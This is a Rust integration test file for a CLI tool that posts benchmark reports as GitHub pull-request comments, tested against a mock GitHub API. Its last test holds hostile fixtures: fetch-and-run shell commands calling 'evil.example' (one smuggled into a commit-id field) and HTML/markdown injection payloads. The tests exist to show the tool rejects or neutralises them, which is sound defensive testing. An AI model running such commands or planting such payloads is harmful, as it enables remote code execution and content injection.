//! `harness post` against a local mock of the GitHub REST API (wiremock on 127.0.0.1): create,
//! update across pages, only the bot's own marked comment, permission errors, retries,
//! truncation, a token that never shows, and a hostile results.json.

use std::time::Duration;

use harness::post::{
    ACTIONS_LOGIN, PostError, PostTarget, Posted, Poster, RetryPolicy, Token, comment_body,
};
use harness::report::{GITHUB_COMMENT_LIMIT, MARKER};
use harness::results::{
    BenchResult, Change, HostInfo, Method, Results, Revision, SideResult, Status, ThresholdSource,
};
use wiremock::matchers::{header, method, path, query_param, query_param_is_missing};
use wiremock::{Mock, MockServer, Request, ResponseTemplate};

/// Distinctive, so a leak anywhere is found by a plain substring search.
const TOKEN: &str = "ghs_FAKEtoken0123456789abcdefXYZ";
/// The login the poster writes as (`--comment-author`).
const BOT: &str = "gate-bot";
const COMMENTS: &str = "/repos/acme/engine/issues/7/comments";

fn bench(id: &str, status: Status, estimate: f64) -> BenchResult {
    let side = |ns: f64| SideResult {
        per_round_ns: vec![ns; 3],
        median_ns: ns,
        samples: vec![],
    };
    BenchResult {
        id: id.into(),
        status,
        base: Some(side(1000.0)),
        head: Some(side(1000.0 * (1.0 + estimate))),
        change: Some(Change {
            estimate,
            ci_low: estimate - 0.01,
            ci_high: estimate + 0.01,
            confidence: 0.95,
            p_value: 0.01,
            p_adjusted: 0.02,
        }),
        threshold: 0.03,
        threshold_source: ThresholdSource::Profile,
        throughput: None,
        rounds: 6,
        confirmed: status == Status::Regression,
        note: None,
        instructions: None,
    }
}

fn results(benches: Vec<BenchResult>) -> Results {
    let rev = |spec: &str, sha: &str| Revision {
        spec: spec.into(),
        sha: sha.into(),
        subject: "a commit".into(),
        dirty: false,
    };
    let outcome = Results::decide(&benches, &[]);
    Results {
        schema: harness::results::SCHEMA.into(),
        tool_version: "0.1.0".into(),
        created_unix_s: 1.7e9,
        suite: "quick".into(),
        shard: None,
        base: rev("main", "1111111111111111111111111111111111111111"),
        head: rev("HEAD", "2222222222222222222222222222222222222222"),
        host: HostInfo::default(),
        method: Method {
            rounds: 6,
            confirmation_rounds: 4,
            noise_rounds: 0,
            order: "ABBA".into(),
            criterion_args: vec![],
            confidence: 0.95,
            alpha: 0.05,
            correction: "holm".into(),
            floor: 0.01,
            profile: None,
            replay: None,
            policy: None,
            sampling: None,
            placement: None,
        },
        rounds: vec![],
        benches,
        failures: vec![],
        outcome,
        wall_s: 60.0,
        reproduce: vec!["harness compare".into()],
        e2e: None,
        gate_changes: vec![],
        lost_time: vec![],
    }
}

fn small() -> Results {
    results(vec![
        bench("matmul/gemm/1024", Status::Regression, 0.12),
        bench("kernels/add/4096", Status::NoChange, 0.001),
    ])
}

fn target(server: &MockServer) -> PostTarget {
    PostTarget {
        api_base: server.uri(),
        owner: "acme".into(),
        repo: "engine".into(),
        pr: 7,
    }
}

fn fast() -> RetryPolicy {
    RetryPolicy {
        attempts: 4,
        base_delay: Duration::from_millis(1),
        max_delay: Duration::from_millis(20),
    }
}

fn poster(server: &MockServer) -> Poster {
    Poster::new(target(server), Token::new(TOKEN.into()).unwrap(), fast())
        .unwrap()
        .with_author(BOT)
}

/// A comment by the bot.
fn comment(id: u64, body: &str) -> serde_json::Value {
    comment_by(id, body, BOT)
}

fn comment_by(id: u64, body: &str, login: &str) -> serde_json::Value {
    serde_json::json!({
        "id": id,
        "html_url": format!("https://github.com/acme/engine/pull/7#issuecomment-{id}"),
        "body": body,
        "user": {"login": login},
    })
}

async fn requests(server: &MockServer, verb: &str) -> Vec<Request> {
    server
        .received_requests()
        .await
        .unwrap()
        .into_iter()
        .filter(|r| r.method.as_str() == verb)
        .collect()
}

fn sent_body(r: &Request) -> String {
    let v: serde_json::Value = serde_json::from_slice(&r.body).unwrap();
    v["body"].as_str().unwrap().to_string()
}

/// The post creates exactly one comment (answered with id `id`) and edits none.
async fn expect_a_new_comment(server: &MockServer, id: u64) {
    Mock::given(method("POST"))
        .and(path(COMMENTS))
        .respond_with(ResponseTemplate::new(201).set_body_json(comment(id, "")))
        .expect(1)
        .mount(server)
        .await;
    Mock::given(method("PATCH"))
        .respond_with(ResponseTemplate::new(200))
        .expect(0)
        .mount(server)
        .await;
}

#[tokio::test]
async fn creates_the_comment_when_none_carries_the_marker() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path(COMMENTS))
        .and(query_param("per_page", "100"))
        .and(header("authorization", format!("Bearer {TOKEN}").as_str()))
        .respond_with(ResponseTemplate::new(200).set_body_json(serde_json::json!([
            comment_by(1, "LGTM", "someone"),
            // Quotes the marker but does not start with it: never edited, even the bot's own.
            comment(2, &format!("why does the bot write {MARKER}?")),
        ])))
        .expect(1)
        .mount(&server)
        .await;
    expect_a_new_comment(&server, 99).await;

    let r = small();
    let body = comment_body(&r, "the artifact");
    let posted = poster(&server).upsert(&body).await.unwrap().posted;
    assert_eq!(
        posted,
        Posted::Created {
            id: 99,
            url: "https://github.com/acme/engine/pull/7#issuecomment-99".into()
        }
    );
    let posts = requests(&server, "POST").await;
    let sent = sent_body(&posts[0]);
    assert!(sent.starts_with(MARKER), "{sent}");
    assert!(sent.contains("matmul/gemm/1024"));
    server.verify().await;
}

#[tokio::test]
async fn updates_the_marked_comment_found_on_page_two() {
    let server = MockServer::start().await;
    let page2 = format!("{}{COMMENTS}?per_page=100&page=2", server.uri());
    Mock::given(method("GET"))
        .and(path(COMMENTS))
        .and(query_param_is_missing("page"))
        .respond_with(
            ResponseTemplate::new(200)
                .insert_header(
                    "link",
                    format!("<{page2}>; rel=\"next\", <{page2}>; rel=\"last\"",).as_str(),
                )
                .set_body_json(serde_json::json!([
                    comment(10, "first review"),
                    comment(11, "second review"),
                ])),
        )
        .expect(1)
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path(COMMENTS))
        .and(query_param("page", "2"))
        // The token goes to the API host's pagination links too.
        .and(header("authorization", format!("Bearer {TOKEN}").as_str()))
        .respond_with(ResponseTemplate::new(200).set_body_json(serde_json::json!([
            comment(12, "rebased"),
            comment(42, &format!("{MARKER}\n## ✅ old report")),
            comment(43, &format!("{MARKER}\n## a later duplicate")),
            comment(44, "thanks"),
        ])))
        .expect(1)
        .mount(&server)
        .await;
    Mock::given(method("PATCH"))
        .and(path("/repos/acme/engine/issues/comments/42"))
        .respond_with(ResponseTemplate::new(200).set_body_json(comment(42, "")))
        .expect(1)
        .mount(&server)
        .await;
    Mock::given(method("POST"))
        .respond_with(ResponseTemplate::new(201))
        .expect(0)
        .mount(&server)
        .await;

    let body = comment_body(&small(), "the artifact");
    let posted = poster(&server).upsert(&body).await.unwrap().posted;
    assert!(
        matches!(posted, Posted::Updated { id: 42, .. }),
        "{posted:?}"
    );
    let patches = requests(&server, "PATCH").await;
    assert_eq!(sent_body(&patches[0]), body);
    server.verify().await;
}

/// Every comment listing answers `status` with GitHub's error `message`.
async fn error_on_list(status: u16, message: &str) -> (MockServer, PostError) {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path(COMMENTS))
        .respond_with(
            ResponseTemplate::new(status).set_body_json(serde_json::json!({
                "message": message,
                "documentation_url": "https://docs.github.com/rest",
            })),
        )
        .mount(&server)
        .await;
    let err = poster(&server).upsert("body").await.unwrap_err();
    (server, err)
}

#[tokio::test]
async fn permission_errors_say_what_is_missing_and_are_not_retried() {
    let (server, e) = error_on_list(401, "Bad credentials").await;
    let text = e.to_string();
    assert!(text.contains("GITHUB_TOKEN was rejected (401)"), "{text}");
    assert!(text.contains("Bad credentials"), "{text}");
    assert_eq!(
        requests(&server, "GET").await.len(),
        1,
        "401 is not retried"
    );

    let (server, e) = error_on_list(403, "Resource not accessible by integration").await;
    let text = e.to_string();
    assert!(text.contains("permissions: pull-requests: write"), "{text}");
    assert!(
        text.contains("fork") && text.contains("workflow_run"),
        "{text}"
    );
    assert!(text.contains("Resource not accessible by integration"));
    assert_eq!(
        requests(&server, "GET").await.len(),
        1,
        "403 is not retried"
    );

    let (server, e) = error_on_list(404, "Not Found").await;
    let text = e.to_string();
    assert!(
        text.contains("acme/engine") && text.contains("#7"),
        "{text}"
    );
    assert!(text.contains("--repo") && text.contains("--pr"), "{text}");
    assert!(text.contains("GITHUB_REPOSITORY"), "{text}");
    assert_eq!(
        requests(&server, "GET").await.len(),
        1,
        "404 is not retried"
    );
    assert!(!format!("{e} {e:?}").contains(TOKEN));
}

#[tokio::test]
async fn server_errors_are_retried_until_the_comment_is_created() {
    let server = MockServer::start().await;
    // One 503 on the listing, then an empty list.
    Mock::given(method("GET"))
        .and(path(COMMENTS))
        .respond_with(ResponseTemplate::new(503))
        .up_to_n_times(1)
        .with_priority(1)
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path(COMMENTS))
        .respond_with(ResponseTemplate::new(200).set_body_json(serde_json::json!([])))
        .mount(&server)
        .await;
    // Two 500s on the create, then 201.
    Mock::given(method("POST"))
        .and(path(COMMENTS))
        .respond_with(ResponseTemplate::new(500).set_body_string("oops"))
        .up_to_n_times(2)
        .with_priority(1)
        .mount(&server)
        .await;
    Mock::given(method("POST"))
        .and(path(COMMENTS))
        .respond_with(ResponseTemplate::new(201).set_body_json(comment(5, "")))
        .mount(&server)
        .await;

    let posted = poster(&server).upsert("body").await.unwrap().posted;
    assert!(
        matches!(posted, Posted::Created { id: 5, .. }),
        "{posted:?}"
    );
    assert_eq!(requests(&server, "POST").await.len(), 3);
    // The listing is repeated before each new create, so a create GitHub applied despite its
    // 500 would be updated rather than duplicated: 1 failed + 3 good listings.
    assert_eq!(requests(&server, "GET").await.len(), 4);
}

#[tokio::test]
async fn secondary_rate_limits_are_retried() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path(COMMENTS))
        .respond_with(
            ResponseTemplate::new(403)
                .insert_header("retry-after", "0")
                .set_body_json(serde_json::json!({
                    "message": "You have exceeded a secondary rate limit. Please wait a few minutes before you try again."
                })),
        )
        .up_to_n_times(2)
        .with_priority(1)
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path(COMMENTS))
        .respond_with(
            ResponseTemplate::new(200)
                .set_body_json(serde_json::json!([comment(8, &format!("{MARKER}\nold")),])),
        )
        .mount(&server)
        .await;
    Mock::given(method("PATCH"))
        .and(path("/repos/acme/engine/issues/comments/8"))
        .respond_with(ResponseTemplate::new(200).set_body_json(comment(8, "")))
        .expect(1)
        .mount(&server)
        .await;
    let posted = poster(&server).upsert("body").await.unwrap().posted;
    assert!(matches!(posted, Posted::Updated { id: 8, .. }));
    assert_eq!(requests(&server, "GET").await.len(), 3);
    server.verify().await;
}

#[tokio::test]
async fn retries_are_bounded() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .respond_with(ResponseTemplate::new(502).set_body_string("<html>Bad gateway</html>"))
        .expect(4)
        .mount(&server)
        .await;
    let err = poster(&server)
        .upsert("body")
        .await
        .unwrap_err()
        .to_string();
    assert!(err.contains("502") && err.contains("4 attempts"), "{err}");
    server.verify().await;
}

#[tokio::test]
async fn an_oversized_report_is_cut_and_keeps_the_marker() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .respond_with(ResponseTemplate::new(200).set_body_json(serde_json::json!([])))
        .mount(&server)
        .await;
    Mock::given(method("POST"))
        .respond_with(ResponseTemplate::new(201).set_body_json(comment(1, "")))
        .mount(&server)
        .await;
    let many: Vec<BenchResult> = (0..3000)
        .map(|i| {
            bench(
                &format!("family/a_rather_long_benchmark_name/{i:05}"),
                Status::PossibleRegression,
                0.05,
            )
        })
        .collect();
    let r = results(many);
    assert!(harness::report::markdown(&r).len() > GITHUB_COMMENT_LIMIT);
    let body = comment_body(&r, "the `results.json` artifact of run 1");
    poster(&server).upsert(&body).await.unwrap();
    let sent = sent_body(&requests(&server, "POST").await[0]);
    assert!(
        sent.chars().count() <= GITHUB_COMMENT_LIMIT,
        "{}",
        sent.len()
    );
    assert!(sent.starts_with(MARKER));
    assert!(sent.contains("Report truncated"));
    assert!(sent.contains("the `results.json` artifact of run 1"));
}

/// Runs the `harness post` binary against the mock; returns (exit code, stdout + stderr).
fn run_cli(server_uri: &str, input: &std::path::Path, extra_env: &[(&str, &str)]) -> (i32, String) {
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_harness"));
    cmd.args(["post", "--input"])
        .arg(input)
        .args([
            "--repo",
            "acme/engine",
            "--pr",
            "7",
            "--comment-author",
            BOT,
        ])
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("GITHUB_TOKEN", TOKEN)
        .env("GITHUB_API_URL", server_uri);
    for (k, v) in extra_env {
        cmd.env(k, v);
    }
    let out = cmd.output().unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    (out.status.code().unwrap_or(-1), text)
}

#[tokio::test]
async fn the_cli_never_shows_the_token() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("results.json");
    std::fs::write(&input, harness::report::json(&small())).unwrap();

    // Posted: exit 0, the comment's address on stdout; the token was sent, never printed.
    let ok = MockServer::start().await;
    Mock::given(method("GET"))
        .and(header("authorization", format!("Bearer {TOKEN}").as_str()))
        .respond_with(ResponseTemplate::new(200).set_body_json(serde_json::json!([])))
        .expect(1)
        .mount(&ok)
        .await;
    Mock::given(method("POST"))
        .and(header("authorization", format!("Bearer {TOKEN}").as_str()))
        .respond_with(ResponseTemplate::new(201).set_body_json(comment(3, "")))
        .expect(1)
        .mount(&ok)
        .await;
    let uri = ok.uri();
    let input2 = input.clone();
    let (code, text) =
        tokio::task::spawn_blocking(move || run_cli(&uri, &input2, &[("RUST_LOG", "trace")]))
            .await
            .unwrap();
    assert_eq!(code, 0, "{text}");
    assert!(text.contains("created comment 3"), "{text}");
    assert!(!text.contains(TOKEN), "{text}");
    ok.verify().await;

    // Rejected, and GitHub's message echoes the token: exit 2, a 401 message, still no token.
    let bad = MockServer::start().await;
    Mock::given(method("GET"))
        .respond_with(ResponseTemplate::new(401).set_body_json(serde_json::json!({
            "message": format!("Bad credentials: {TOKEN}")
        })))
        .mount(&bad)
        .await;
    let uri = bad.uri();
    let (code, text) = tokio::task::spawn_blocking(move || run_cli(&uri, &input, &[]))
        .await
        .unwrap();
    assert_eq!(code, 2, "{text}");
    assert!(text.contains("GITHUB_TOKEN was rejected (401)"), "{text}");
    assert!(!text.contains(TOKEN), "{text}");
}

#[tokio::test]
async fn a_marked_comment_by_someone_else_is_left_alone_and_named() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path(COMMENTS))
        .respond_with(ResponseTemplate::new(200).set_body_json(serde_json::json!([
            comment(6, &format!("{MARKER}\n## old report")),
            // Planted after the real report, to pass for it (named in the note all the same).
            comment_by(5, &format!("{MARKER}\n## ✅ all good"), "mallory"),
        ])))
        .mount(&server)
        .await;
    Mock::given(method("PATCH"))
        .and(path("/repos/acme/engine/issues/comments/6"))
        .respond_with(ResponseTemplate::new(200).set_body_json(comment(6, "")))
        .expect(1)
        .mount(&server)
        .await;
    let up = poster(&server).upsert("MARKED body").await.unwrap();
    assert!(matches!(up.posted, Posted::Updated { id: 6, .. }), "{up:?}");
    assert_eq!(up.foreign, vec![(5, "mallory".to_string())]);
    assert!(up.to_string().contains("5 by mallory"), "{up}");
    let sent = sent_body(&requests(&server, "PATCH").await[0]);
    assert!(sent.starts_with("MARKED body"), "{sent}");
    assert!(
        sent.contains("written by `mallory`") && sent.contains("left alone"),
        "{sent}"
    );
    server.verify().await;

    // Only a foreign one: a comment of our own is created, never the planted one edited.
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path(COMMENTS))
        .respond_with(
            ResponseTemplate::new(200).set_body_json(serde_json::json!([comment_by(
                5,
                &format!("{MARKER}\n## ✅ all good"),
                "mallory"
            ),])),
        )
        .mount(&server)
        .await;
    expect_a_new_comment(&server, 7).await;
    let up = poster(&server).upsert("body").await.unwrap();
    assert!(matches!(up.posted, Posted::Created { id: 7, .. }));
    server.verify().await;
}

#[tokio::test]
async fn the_author_is_the_token_s_own_login() {
    // A personal token: GET /user names it.
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/user"))
        .respond_with(
            ResponseTemplate::new(200).set_body_json(serde_json::json!({"login": "alice"})),
        )
        .expect(1)
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path(COMMENTS))
        .respond_with(ResponseTemplate::new(200).set_body_json(serde_json::json!([
            comment(1, &format!("{MARKER}\nby the bot")),
            comment_by(2, &format!("{MARKER}\nby alice"), "alice"),
        ])))
        .mount(&server)
        .await;
    Mock::given(method("PATCH"))
        .and(path("/repos/acme/engine/issues/comments/2"))
        .respond_with(ResponseTemplate::new(200).set_body_json(comment_by(2, "", "alice")))
        .expect(1)
        .mount(&server)
        .await;
    let p = Poster::new(target(&server), Token::new(TOKEN.into()).unwrap(), fast()).unwrap();
    let up = p.upsert("body").await.unwrap();
    assert_eq!(up.author, "alice");
    assert!(matches!(up.posted, Posted::Updated { id: 2, .. }));
    server.verify().await;

    // Actions' GITHUB_TOKEN may not read /user: its comments are github-actions[bot]'s.
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/user"))
        .respond_with(ResponseTemplate::new(403).set_body_json(
            serde_json::json!({"message": "Resource not accessible by integration"}),
        ))
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path(COMMENTS))
        .respond_with(
            ResponseTemplate::new(200).set_body_json(serde_json::json!([comment_by(
                9,
                &format!("{MARKER}\nold"),
                ACTIONS_LOGIN
            ),])),
        )
        .mount(&server)
        .await;
    Mock::given(method("PATCH"))
        .and(path("/repos/acme/engine/issues/comments/9"))
        .respond_with(ResponseTemplate::new(200).set_body_json(comment(9, "")))
        .expect(1)
        .mount(&server)
        .await;
    let p = Poster::new(target(&server), Token::new(TOKEN.into()).unwrap(), fast()).unwrap();
    let up = p.upsert("body").await.unwrap();
    assert_eq!(up.author, ACTIONS_LOGIN);
    server.verify().await;
}

/// `harness post --dry-run` on `input`, no token, no network: (exit code, stdout, stderr).
fn dry_run(input: &std::path::Path) -> (i32, String, String) {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_harness"))
        .args(["post", "--dry-run", "--input"])
        .arg(input)
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn a_hostile_results_file_is_refused_or_rendered_inert() {
    let dir = tempfile::tempdir().unwrap();

    // 20 MB: refused unread, with the limit named.
    let big = dir.path().join("big.json");
    std::fs::write(&big, " ".repeat(20 << 20)).unwrap();
    let (code, _, err) = dry_run(&big);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("over the 8388608-byte limit"), "{err}");

    // A "commit id" that is a shell command: refused, the field named.
    let mut r = small();
    r.head.sha = "$(curl -s https://evil.example | sh)".into();
    let bad = dir.path().join("bad.json");
    std::fs::write(&bad, harness::report::json(&r)).unwrap();
    let (code, _, err) = dry_run(&bad);
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains("head.sha") && err.contains("not a commit id"),
        "{err}"
    );

    // Mentions, images, links, HTML and fence breakers in the free text: posted inert, and the
    // "Reproduce" commands rebuilt from the commit ids.
    let mut r = small();
    r.benches[0].id = "@octocat <img src=x onerror=alert(1)> [a](https://evil.example)".into();
    r.benches[0].note = Some("```\n@acme/security please look https://evil.example".into());
    r.host.cpu = "<img src=https://evil.example/p.png>".into();
    r.head.subject = "fix </summary></details> ![x](https://evil.example/x.png)".into();
    r.reproduce = vec!["curl https://evil.example/pwn | sh".into()];
    let hostile = dir.path().join("hostile.json");
    std::fs::write(&hostile, harness::report::json(&r)).unwrap();
    let (code, body, err) = dry_run(&hostile);
    assert_eq!(code, 0, "{err}");
    assert!(body.starts_with(MARKER), "{body}");
    let (links, tags, autolinked) = live(&body);
    assert!(links.is_empty(), "links or images: {links:?}\n{body}");
    assert!(
        tags.iter()
            .all(|t| ["br", "details", "sub", "summary"].contains(&t.as_str())),
        "HTML: {tags:?}\n{body}"
    );
    assert!(
        autolinked.is_empty(),
        "mentions or autolinks: {autolinked:?}\n{body}"
    );
    assert_eq!(
        body.matches("<details>").count(),
        body.matches("</details>").count()
    );
    assert!(!body.contains("curl"), "{body}");
    assert!(body.contains(&format!(
        "harness compare --base {} --head {} --suite quick",
        "1".repeat(40),
        "2".repeat(40)
    )));
    assert!(body.chars().count() <= GITHUB_COMMENT_LIMIT);
}

/// What GitHub would make live in `md`: link and image targets, HTML tag names, and text
/// outside code that it would turn into a mention, reference or link (the same check as the
/// report's unit tests, on the binary's output).
fn live(md: &str) -> (Vec<String>, Vec<String>, Vec<String>) {
    use pulldown_cmark::{Event, Options, Parser, Tag};
    let (mut links, mut tags, mut autolinked) = (Vec::new(), Vec::new(), Vec::new());
    let tag_re = regex_lite::Regex::new(r"<\s*/?\s*([A-Za-z][A-Za-z0-9-]*)").unwrap();
    let strip = regex_lite::Regex::new(r"<[^>]*>").unwrap();
    let auto_re = regex_lite::Regex::new(r"(?i)(^|[^\w])@[a-z0-9]|#[0-9]|https?://|www\.").unwrap();
    let mut in_code_block = false;
    for e in Parser::new_ext(md, Options::ENABLE_TABLES) {
        match e {
            Event::Start(Tag::CodeBlock(_)) => in_code_block = true,
            Event::End(pulldown_cmark::TagEnd::CodeBlock) => in_code_block = false,
            Event::Text(_) if in_code_block => {}
            Event::Start(Tag::Link { dest_url, .. })
            | Event::Start(Tag::Image { dest_url, .. }) => links.push(dest_url.to_string()),
            Event::Html(h) | Event::InlineHtml(h) => {
                tags.extend(tag_re.captures_iter(&h).map(|c| c[1].to_lowercase()));
                let text = strip.replace_all(&h, " ");
                let text = regex_lite::Regex::new(r"&#[0-9]+;")
                    .unwrap()
                    .replace_all(&text, " ");
                if auto_re.is_match(&text) {
                    autolinked.push(text.to_string());
                }
            }
            Event::Text(t) if auto_re.is_match(&t) => autolinked.push(t.to_string()),
            _ => {}
        }
    }
    (links, tags, autolinked)
}
